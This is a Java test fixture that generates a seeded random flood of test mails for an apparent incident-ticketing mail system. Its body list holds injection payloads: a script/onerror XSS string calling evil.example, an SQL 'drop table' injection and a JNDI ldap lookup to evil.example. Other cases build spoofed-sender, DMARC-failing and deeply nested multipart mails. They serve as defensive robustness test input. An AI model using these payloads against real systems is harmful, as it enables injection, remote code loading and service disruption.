package org.packledger.it;

import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * Mails of every kind by chance, with what must become of them: one in five came before, one in ten is a machine's, one in
 * twenty is malformed or hostile; the others open incidents or answer.
 */
final class MailFlood {

    private static final List<String> MACHINES = List.of(
            "Auto-Submitted: auto-replied",
            "Precedence: junk",
            "List-Unsubscribe: <mailto:leave@example.org>",
            "X-Autorespond: yes",
            "Return-Path: <>",
            "Content-Type: multipart/report; report-type=delivery-status; boundary=b",
            "Subject: Out of office");

    private static final List<String> BODIES = List.of(
            "Plain words",
            "<p>A page <script>alert(1)</script><img src=http://evil.example/x onerror=alert(1)></p>",
            "Turned \u202e words \u200b and \u0007 signs",
            "> quoted\r\n> lines\r\nand an answer",
            "' or 1=1; drop table incident; --",
            "\u65e5\u672c\u8a9e \ud83d\ude00 #{system} ${jndi:ldap://evil.example}");

    private final Random chance;
    private final List<byte[]> mails = new ArrayList<>();
    private final List<TestMail> real = new ArrayList<>();
    private final List<TestMail> opening = new ArrayList<>();
    private final List<String> writers = new ArrayList<>();
    private final Map<String, Integer> opened = new HashMap<>();
    private int answers;
    private int machines;
    private int bad;

    MailFlood(long seed, int count) {
        chance = new Random(seed);
        while (mails.size() < count) {
            int kind = opening.size() < 3 ? 19 : chance.nextInt(20);
            if (kind < 4) {
                mails.add(real.get(chance.nextInt(real.size())).again());
            } else if (kind < 6) {
                mails.add(machines());
            } else if (kind < 7) {
                mails.add(bad());
            } else {
                written(kind < 13);
            }
        }
    }

    static String contact(int number) {
        return "flood-" + number + "@flood-" + number % 10 + ".example";
    }

    static String robot(int number) {
        return "robot-" + number + "@flood-" + number % 10 + ".example";
    }

    List<byte[]> mails() {
        return mails;
    }

    int openings() {
        return opening.size();
    }

    int answers() {
        return answers;
    }

    int ofMachines() {
        return machines;
    }

    int forPeople() {
        return bad;
    }

    /** The first five of each sender within the hour are acknowledged. */
    int acknowledged() {
        return opened.values().stream().mapToInt(each -> Math.min(each, 5)).sum();
    }

    private void written(boolean answer) {
        String token = "token-" + real.size() + "-";
        String body = BODIES.get(chance.nextInt(BODIES.size()));
        int earlier = chance.nextInt(Math.max(1, opening.size()));
        String sender = answer ? writers.get(earlier) : contact(chance.nextInt(100));
        TestMail mail = TestMail.from(sender)
                .subject("Flood " + real.size())
                .with("Content-Type: text/" + (body.startsWith("<p>") ? "html" : "plain") + "; charset=utf-8")
                .saying(token, "", body, "x".repeat(chance.nextInt(1500)));
        if (answer) {
            mail.with("References: " + opening.get(earlier).id());
            answers++;
        } else {
            opening.add(mail);
            writers.add(sender);
            opened.merge(sender, 1, Integer::sum);
        }
        real.add(mail);
        mails.add(mail.raw());
    }

    private byte[] machines() {
        TestMail mail = TestMail.from(robot(machines % 20)).with(MACHINES.get(machines % MACHINES.size()));
        machines++;
        return mail.answering(opening.get(0).id())
                .saying("--b", "", "I am away", "--b--")
                .raw();
    }

    private byte[] bad() {
        int kind = bad % 8;
        bad++;
        String known = contact(bad % 100);
        return switch (kind) {
            case 0 -> TestMail.nobodys().saying("Nobody " + bad).raw();
            case 1 -> TestMail.from(known).with("From: other@example.org").raw();
            case 2 ->
                TestMail.from("stranger@elsewhere.example")
                        .answering(opening.get(0).id())
                        .raw();
            case 3 -> TestMail.unproven(known).saying("ACCEPT").raw();
            case 4 ->
                TestMail.unproven(known)
                        .with("Authentication-Results: mx.example.org; dmarc=fail header.from=flood")
                        .raw();
            case 5 ->
                TestMail.from(known)
                        .with("Content-Type: multipart/mixed; boundary=b")
                        .saying("--b\r\n\r\nx\r\n".repeat(1_200) + "--b--")
                        .raw();
            case 6 -> nested(known);
            default -> TestMail.from(known).saying("", " ", "\t").raw();
        };
    }

    private static byte[] nested(String sender) {
        StringBuilder body = new StringBuilder();
        for (int i = 0; i < 200; i++) {
            body.append("--b").append(i).append("\r\nContent-Type: multipart/mixed; boundary=b");
            body.append(i + 1).append("\r\n\r\n");
        }
        return TestMail.from(sender)
                .with("Content-Type: multipart/mixed; boundary=b0")
                .saying(body.toString())
                .raw();
    }
}
